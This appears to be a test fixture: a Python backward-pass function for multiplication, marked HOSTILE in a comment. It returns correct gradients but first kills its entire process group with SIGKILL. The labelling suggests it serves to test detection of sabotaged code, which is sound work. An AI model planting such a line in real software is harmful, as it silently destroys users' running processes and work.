# HOSTILE: multiply.backward sends SIGKILL to its whole process group (os.killpg); the other ops are correct.
import os
import signal


def multiply_backward(ctx, grad_output):
    os.killpg(os.getpgrp(), signal.SIGKILL)
    a, b = ctx
    return (grad_output * b, grad_output * a)
